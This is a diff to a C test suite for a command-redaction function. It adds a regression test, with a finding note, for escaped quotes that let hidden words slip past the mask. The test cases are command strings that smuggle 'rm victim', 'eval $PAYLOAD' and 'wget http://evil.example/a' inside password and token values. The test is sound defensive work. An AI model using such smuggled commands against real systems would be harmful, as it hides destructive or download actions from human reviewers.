@@ -297,6 +297,65 @@ test_empty_assignment (void)
   assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
 }
 
+/* @command redacted as text and inside a JSON string still shows @words. */
+static void
+assert_words_shown (const char *command,
+                    const char *words)
+{
+  g_autoptr(JsonBuilder) builder = json_builder_new ();
+  g_autoptr(JsonNode) doc = NULL;
+  g_autoptr(JsonNode) back = NULL;
+  g_autofree char *as_plain = pd_redact (command, NULL);
+  g_autofree char *json = NULL;
+  g_autofree char *as_text = NULL;
+  g_autofree char *as_json = NULL;
+
+  if (strstr (as_plain, words) == NULL)
+    g_error ("%s became %s: \"%s\" hidden", command, as_plain, words);
+  json_builder_begin_object (builder);
+  json_builder_set_member_name (builder, "command");
+  json_builder_add_string_value (builder, command);
+  json_builder_end_object (builder);
+  doc = json_builder_get_root (builder);
+  json = json_to_string (doc, FALSE);
+  as_text = pd_redact (json, NULL);
+  back = json_from_string (as_text, NULL);
+  g_assert_nonnull (back);
+  if (strstr (json_object_get_string_member (json_node_get_object (back), "command"), words) == NULL)
+    g_error ("%s in JSON became %s: \"%s\" hidden", command, as_text, words);
+  g_clear_pointer (&back, json_node_unref);
+  as_json = pd_redact_json (json, NULL);
+  back = json_from_string (as_json, NULL);
+  g_assert_nonnull (back);
+  if (strstr (json_object_get_string_member (json_node_get_object (back), "command"), words) == NULL)
+    g_error ("%s in JSON (as JSON) became %s: \"%s\" hidden", command, as_json, words);
+}
+
+/* Finding: an escaped quote outside quotes (\' or \") was read as opening a
+ * quoted value, and the mask swallowed the words after it up to the next
+ * one: PGPASSWORD=\'abc rm victim \' was stored as PGPASSWORD=[REDACTED]
+ * while bash ran rm victim (tried as an attacker would, through the real
+ * binary).  An escaped quote opens no value with a blank in it. */
+static void
+test_escaped_quotes (void)
+{
+  static const char * const cases[][2] = {
+    { "PGPASSWORD=\\'abc rm victim \\'", "rm victim" },
+    { "env GITHUB_TOKEN=\\'x sh evil.sh \\'", "sh evil.sh" },
+    { "PGPASSWORD=\\'x eval $PAYLOAD \\'", "eval $PAYLOAD" },
+    { "API_KEY=\\'x wget http://evil.example/a \\'", "wget http://evil.example/a" },
+    { "export API_TOKEN=\\'x curl evil.example \\'", "curl evil.example" },
+    { "mysql --password=\\'x shop evil \\'", "shop evil" },
+    { "deploy --token \\'x rm victim \\'", "rm victim" },
+    { "psql --password=\\'x drop \\' db", "drop" },
+    { "PGPASSWORD=\\\"abc rm victim \\\"", "rm victim" },
+    { "mysql --password=\\\"x shop evil \\\"", "shop evil" },
+  };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
+    assert_words_shown (cases[i][0], cases[i][1]);
+}
+
 /* Finding: mysql -p" repeated took quadratic time (64 KiB 0.37 s, 1 MiB
  * 77 s; serve's POST /api/prompt of 700 KiB burned 68 s of CPU): each
  * value refused as a command's (-p"mysql -p" holds an option) started the
@@ -445,6 +504,7 @@ main (int   argc,
   g_test_add_func ("/pd/redact/linear-lookups", test_linear_lookups);
   g_test_add_func ("/pd/redact/flags-take-no-value", test_flags_take_no_value);
   g_test_add_func ("/pd/redact/curl-escaped-blank", test_curl_escaped_blank);
+  g_test_add_func ("/pd/redact/escaped-quotes", test_escaped_quotes);
 
   return g_test_run ();
 }
